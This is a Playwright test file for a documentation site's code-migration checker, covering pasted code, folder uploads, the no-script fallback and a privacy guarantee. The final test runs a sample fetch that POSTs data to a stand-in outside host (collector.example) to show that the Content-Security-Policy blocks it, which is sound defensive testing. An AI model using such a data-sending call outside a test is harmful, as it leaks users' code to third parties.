import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { readSiteConfig } from '../../src/config/environment/readSiteConfig';
import { listInlineScripts } from '../../tools/csp/listInlineScripts';
import { hashScript, renderPolicy } from '../../tools/csp/renderPolicy';
import { expect, test } from '../support/browser/siteTest';

const BUILD_DIR = path.resolve(__dirname, '../../build');

const CODE = `import { LineChart } from '@mui/x-charts';
export const Chart = () => <LineChart legend={{ hidden: true }} series={[]} />;
`;

const PAGES = [
  ['/x/migration/check/', 'Or paste code', 'Check this code'],
  ['/zh/x/migration/check/', '或粘贴代码', '检查这段代码'],
] as const;

for (const [address, field, button] of PAGES)
  test(`${address} checks pasted code`, async ({ page }) => {
    await page.goto(address);
    await page.getByLabel(field).fill(CODE);
    await page.getByRole('button', { name: button }).click();
    const breaks = page.locator('[data-level="breaks"]');
    await expect(breaks.getByRole('checkbox')).toHaveCount(1);
    await expect(breaks.getByRole('link')).toHaveAttribute(
      'href',
      new RegExp(`^${address.replace('check/', '')}migration-charts-v7/#`),
    );
    await breaks.getByRole('checkbox').check();
    await page.reload();
    await expect(breaks.getByRole('checkbox')).toBeChecked();
  });

test('the result of a check is brought into view, a stored one is not', async ({
  page,
}) => {
  await page.setViewportSize({ width: 1440, height: 900 });
  await page.goto('/x/migration/check/');
  await page.getByLabel('Or paste code').fill(CODE);
  await page.getByRole('button', { name: 'Check this code' }).click();
  await expect(page.getByRole('heading', { name: 'Result' })).toBeInViewport();
  await expect(page.locator('[data-level="breaks"] summary')).toBeInViewport();
  await page.goto('/x/');
  await page.goto('/x/migration/check/');
  await expect(page.locator('[data-level="breaks"]')).toBeAttached();
  expect(await page.evaluate(() => window.scrollY)).toBe(0);
});

test('without scripts, a note replaces the fields', async ({ browser, baseURL }) => {
  const context = await browser.newContext({ javaScriptEnabled: false, baseURL });
  const page = await context.newPage();
  await page.goto('/x/migration/check/');
  // Playwright leaves noscript out of the text of its ancestors.
  await expect(page.locator('[data-upgrade-check] noscript > p')).toHaveText(
    'The check needs JavaScript.',
  );
  for (const text of ['Drop files or a folder here', 'Choose files', 'Choose a folder'])
    await expect(page.getByText(text)).toBeHidden();
  await context.close();
});

test('the changes of a product lead to the check', async ({ page }) => {
  await page.goto('/x/api/charts/changes-7-8/');
  await page.getByRole('link', { name: 'Check your code' }).first().click();
  await expect(page).toHaveURL(/\/x\/migration\/check\/$/);
});

test('files of a folder are checked, and their code stays in the browser', async ({
  page,
}) => {
  const folder = fs.mkdtempSync(path.join(os.tmpdir(), 'upgrade-check-'));
  fs.mkdirSync(path.join(folder, 'src'));
  for (let index = 0; index < 200; index += 1)
    fs.writeFileSync(path.join(folder, `src/Chart${index}.tsx`), CODE);
  fs.writeFileSync(path.join(folder, 'src/broken.tsx'), `${CODE}const = ;`);
  fs.writeFileSync(path.join(folder, 'src/photo.tsx'), Buffer.from([0, 1, 2, 0xff]));
  const sent: string[] = [];
  await page.goto('/x/migration/check/');
  page.on('request', (request) => {
    const own = new URL(request.url()).origin === new URL(page.url()).origin;
    if (!own || request.method() !== 'GET' || request.postData() !== null)
      sent.push(request.url());
  });
  await page.getByLabel('Choose a folder').setInputFiles(folder);
  const breaks = page.locator('[data-level="breaks"]');
  await expect(breaks.getByRole('checkbox')).toHaveCount(200);
  await expect(page.locator('[data-level="problems"] li')).toHaveCount(2);
  expect(sent).toEqual([]);
  fs.rmSync(folder, { recursive: true });
});

test('the check works under the printed policy, which lets no code out', async ({
  page,
}) => {
  const hashes = listInlineScripts(
    BUILD_DIR,
    (file) => !file.includes('playground/frame/'),
  ).map(hashScript);
  const policy = renderPolicy(readSiteConfig({}), hashes);
  await page.route('**/*/', async (route) => {
    const response = await route.fetch();
    const headers = { ...response.headers(), 'content-security-policy': policy };
    await route.fulfill({ response, headers });
  });
  await page.goto('/x/migration/check/');
  await page.getByLabel('Or paste code').fill(CODE);
  await page.getByRole('button', { name: 'Check this code' }).click();
  await expect(page.locator('[data-level="breaks"]').getByRole('checkbox')).toHaveCount(
    1,
  );
  const violation = await page.evaluate(
    () =>
      new Promise<string>((resolve) => {
        document.addEventListener('securitypolicyviolation', (event) =>
          resolve(event.effectiveDirective),
        );
        fetch('https://collector.example/', { method: 'POST', body: 'code' }).catch(
          () => undefined,
        );
      }),
  );
  expect(violation).toBe('connect-src');
});
